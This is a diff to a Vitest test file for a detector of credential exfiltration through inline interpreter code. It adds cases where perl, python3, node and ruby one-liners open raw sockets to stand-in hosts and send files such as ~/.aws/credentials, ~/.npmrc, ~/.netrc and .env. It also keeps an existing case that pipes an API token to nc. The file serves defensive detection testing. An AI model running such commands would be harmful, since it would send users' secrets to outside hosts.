@@ -1,9 +1,11 @@
 import { describe, expect, it } from 'vitest';
 import { socketSends } from '../../src/extract/exfil-code.js';
-import { command } from '../helpers/command.js';
+import { analyzeContext, command } from '../helpers/command.js';
+
+const ctx = analyzeContext();
 
 const sends = (program: string, flag: string, code: string) =>
-  socketSends(command([program, flag, code])).map((s) => [s.host, s.sent]);
+  socketSends(command([program, flag, code]), ctx).map((s) => [s.host, s.sent]);
 
 describe('secret environment sent on a raw socket by inline code', () => {
   it.each<[string, string, string, string[][]]>([
@@ -65,5 +67,59 @@ describe('secret environment sent on a raw socket by inline code', () => {
       [],
     ],
     ['bash', '-c', 'echo "$API_TOKEN" | nc h 9', []],
+  ])('%s %s %s', (program, flag, code, want) => expect(sends(program, flag, code)).toEqual(want));
+});
+
+describe('a credential file sent on a raw socket by inline code', () => {
+  it.each<[string, string, string, string[][]]>([
+    [
+      'perl',
+      '-e',
+      '$s = IO::Socket::INET->new("198.51.100.7:9000"); open F, "$ENV{HOME}/.npmrc"; print $s <F>',
+      [['198.51.100.7', 'file']],
+    ],
+    [
+      'python3',
+      '-c',
+      "import os,socket; s=socket.create_connection(('h.example.net', 9)); s.sendall(open(os.path.expanduser('~/.aws/credentials'),'rb').read())",
+      [['h.example.net', 'file']],
+    ],
+    [
+      'python3',
+      '-c',
+      "import os,socket; s=socket.create_connection(('h.example.net', 9)); s.sendall(open(os.environ['HOME'] + '/.netrc').read().encode())",
+      [['h.example.net', 'file']],
+    ],
+    [
+      'node',
+      '-e',
+      "const fs=require('fs'),os=require('os'),p=require('path'); const s=require('net').connect(9,'h.example.net'); s.write(fs.readFileSync(p.join(os.homedir(), '.npmrc')))",
+      [['h.example.net', 'file']],
+    ],
+    [
+      'ruby',
+      '-e',
+      "require 'socket'; s=TCPSocket.new('h.example.net', 9); s.write File.read('.env')",
+      [['h.example.net', 'file']],
+    ],
+    // a file that holds no credential, a credential read but sent to this machine, no file read
+    [
+      'python3',
+      '-c',
+      "import socket; s=socket.create_connection(('h.example.net', 9)); s.sendall(open('README.md','rb').read())",
+      [],
+    ],
+    [
+      'python3',
+      '-c',
+      "import socket; s=socket.create_connection(('127.0.0.1', 9)); s.sendall(open('.env','rb').read())",
+      [],
+    ],
+    [
+      'python3',
+      '-c',
+      "import socket; s=socket.create_connection(('h.example.net', 9)); s.sendall(b'.env')",
+      [],
+    ],
   ])('%s %s %s', (program, flag, code, want) => expect(sends(program, flag, code)).toEqual(want));
 });
